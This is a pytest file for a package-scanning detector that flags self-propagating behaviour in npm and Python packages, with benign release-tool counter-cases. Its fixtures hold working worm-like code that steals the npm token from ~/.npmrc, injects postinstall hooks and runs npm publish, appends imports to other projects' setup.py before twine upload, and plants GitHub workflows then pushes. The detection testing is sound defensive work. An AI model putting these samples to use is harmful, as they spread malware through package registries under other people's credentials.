"""Publishing, pushing and planting in somebody else's name is told; release tools and generators of projects are not."""

from __future__ import annotations

import pytest
from packageurl.contrib import purl2url

from app.core.providers import is_registry
from app.core.specimen import ArtifactFacts
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import self_propagation

READS_TOKEN = "const fs = require('fs'); const token = /_authToken=(.*)/.exec(fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'))[1];\n"
MAKES = "fetch('https://api.github.com/user/repos', { method: 'POST', headers: { authorization: token }, body: '{}' });"
WORM = """const fs = require('fs');
const { execSync } = require('child_process');
const found = JSON.parse(fs.readFileSync('package.json', 'utf8'));
found.scripts.postinstall = 'node bundle.js';
fs.writeFileSync('package.json', JSON.stringify(found));
execSync('npm publish');
"""
OTHERS = """import glob, os, subprocess, sys

for path in glob.glob(os.path.expanduser("~/**/setup.py"), recursive=True):
    with open(path, "a") as handle:
        handle.write("import imgpress")
    subprocess.run([sys.executable, "-m", "twine", "upload", "dist/*"], cwd=os.path.dirname(path))
"""


def severities(artifact: ArtifactFacts) -> list[str]:
    """How grave what it tells is."""
    return [str(found.severity) for found in findings(self_propagation, artifact)]


def installs(source: str) -> ArtifactFacts:
    """A tarball whose install step runs this source."""
    return npm({"a.js": source}, scripts={"postinstall": "node a.js"})


def registry() -> str:
    """The address of the npm registry, from the library that knows it."""
    address = purl2url.get_download_url("pkg:npm/x@1")  # type: ignore[no-untyped-call]
    assert is_registry(address.split("/")[2])
    return str(address.rpartition("/")[0])


class TestAlarm:
    @pytest.mark.parametrize(
        ("source", "says"),
        [
            ("require('child_process').execSync('npm publish --access public');", "publishes packages (npm publish)"),
            ("require('child_process').spawnSync('np' + 'm', ['publish', 'x.tgz']);", "publishes packages (npm publish)"),
            ("const { exec } = require('child_process'); exec(`cd ${process.env.INIT_CWD} && git commit -qam x && git push -q`);", "pushes commits (git push)"),
            (f"const token = require('child_process').execSync('gh auth token').toString();\n{MAKES}", "makes or changes repositories (a call of GitHub)"),
            ("const { Octokit } = require('@octokit/rest'); new Octokit({ auth: process.env.GITHUB_TOKEN }).rest.repos.createForAuthenticatedUser({ name: 'x' });", "makes or changes repositories (a call of GitHub)"),
            ("require('child_process').execSync('gh repo create x --public --source .');", "makes or changes repositories (gh repo create)"),
            ("const { join } = require('path'); require('fs').writeFileSync(join(process.env.INIT_CWD, '.github', 'work' + 'flows', 'x.yml'), 'on: push');", "writes a workflow into a repository (…/.github/workflows/x.yml)"),
            (WORM, "changes other packages and publishes them (npm publish)"),
        ],
    )  # fmt: skip
    def test_an_install_step_that_spreads_is_critical(self, source: str, says: str) -> None:
        assert told(findings(self_propagation, installs(source))) == [f"critical: its install step {says}"]

    def test_imported_code_that_plants_workflows_below_the_home_folder_and_pushes(self) -> None:
        source = (
            "import pathlib, subprocess\nfor git in pathlib.Path.home().glob('*/.git'):\n"
            "    (git.parent / '.github/workflows/x.yml').write_text('on: push')\n"
            "    subprocess.run(['git', '-C', str(git.parent), 'push'])\n"
        )
        assert severities(wheel({"imgpress/__init__.py": source})) == ["high"]

    def test_a_shell_that_spreads(self) -> None:
        command = "mkdir -p .github/workflows && echo x > .github/workflows/ci.yml && git push"
        assert severities(npm(scripts={"postinstall": command})) == ["critical"]

    def test_sending_to_the_registry_with_a_token_out_of_a_file(self) -> None:
        source = f"{READS_TOKEN}fetch('{registry()}/x', {{ method: 'PUT', headers: {{ authorization: `Bearer ${{token}}` }}, body: 'x' }});"
        says = "publishes packages with a token that it found (fetch)"
        assert told(findings(self_propagation, installs(source))) == [f"critical: its install step {says}"]
        assert told(findings(self_propagation, npm({"index.js": source}))) == [f"high: its code {says}"]

    def test_projects_on_the_machine_that_are_changed_and_published(self) -> None:
        (found,) = findings(self_propagation, wheel({"imgpress/__init__.py": OTHERS}))
        assert told([found]) == ["critical: its code changes other packages and publishes them (twine upload)"]
        assert places(found) == ["imgpress/__init__.py:4", "imgpress/__init__.py:6"]
        assert severities(sdist({"setup.py": OTHERS})) == ["critical"]

    def test_an_install_step_that_adds_itself_to_another_package_is_high(self) -> None:
        source = "const fs = require('fs'), path = require('path'), file = path.join(process.env.INIT_CWD, 'package.json'); const found = JSON.parse(fs.readFileSync(file)); fs.writeFileSync(file, JSON.stringify({ ...found, scripts: { ...found.scripts, preinstall: 'x' } }));"
        assert severities(installs(source.replace("{ ...found.scripts, preinstall", "{ preinstall"))) == ["high"]
        assert severities(installs(WORM.replace("execSync('npm publish');", ""))) == ["high"]

    def test_imported_code_that_adds_install_steps_and_publishes_is_high(self) -> None:
        assert severities(npm({"index.js": WORM})) == ["high"]

    def test_imported_code_that_makes_repositories_with_a_found_token_is_no_warning(self) -> None:
        source = f"const token = require('child_process').execSync('gh auth token').toString();\n{MAKES}"
        assert severities(npm({"index.js": source})) == ["medium"]


class TestInnocentTwin:
    @pytest.mark.parametrize(
        "source",
        [
            # the shapes of release tools, monorepo tools, generators of projects, and clients of GitHub and registries
            "const { execa } = require('execa'); module.exports = (options) => execa('npm', ['publish', ...options]);",
            "const cp = require('child_process'); exports.push = () => cp.execSync('git push --follow-tags');",
            "const fs = require('fs'); exports.bump = (file, version) => { const found = JSON.parse(fs.readFileSync(file)); found.version = version; fs.writeFileSync(file, JSON.stringify(found)); require('child_process').execSync('npm publish'); };",
            "const fs = require('fs'); exports.create = (dir) => fs.writeFileSync(dir + '/.github/workflows/ci.yml', 'on: push');",
            "const fs = require('fs'); fs.writeFileSync('package.json', JSON.stringify({ scripts: { test: 'x', prepare: 'husky' } }));",
            "exports.make = (octokit, name) => octokit.rest.repos.createForAuthenticatedUser({ name });",
            "const token = process.env.NPM_TOKEN; exports.put = (url, body) => fetch(url, { method: 'PUT', headers: { authorization: token }, body });",
        ],
    )  # fmt: skip
    def test_ordinary_javascript(self, source: str) -> None:
        assert findings(self_propagation, npm({"index.js": source})) == []

    def test_reading_the_registry_with_a_token_is_not_publishing(self) -> None:
        source = f"{READS_TOKEN}fetch('{registry()}/x', {{ headers: {{ authorization: `Bearer ${{token}}` }} }});"
        assert findings(self_propagation, npm({"index.js": source})) == []

    def test_a_rehearsal_is_not_told(self) -> None:
        assert findings(self_propagation, npm(scripts={"postinstall": "npm publish --dry-run"})) == []

    def test_a_setup_that_can_publish_itself_is_no_warning(self) -> None:
        """The shape of many: the author runs `setup.py publish`."""
        source = "import os, sys\nfrom setuptools import setup\n\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist')\n    os.system('twine upload dist/*')\n    os.system('git push --tags')\n    sys.exit()\nsetup(name='imgpress')\n"
        assert severities(sdist({"setup.py": source})) == ["medium"]

    def test_a_script_of_the_package_that_publishes_it_is_not_told(self) -> None:
        assert (
            findings(self_propagation, npm(scripts={"release": "npm publish && git push", "prepublishOnly": "x"})) == []
        )

    def test_tests_are_not_told(self) -> None:
        assert findings(self_propagation, npm({"test/x.js": WORM})) == []

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = installs(WORM)
        assert [found.new for found in findings(self_propagation, old, old)] == [False]
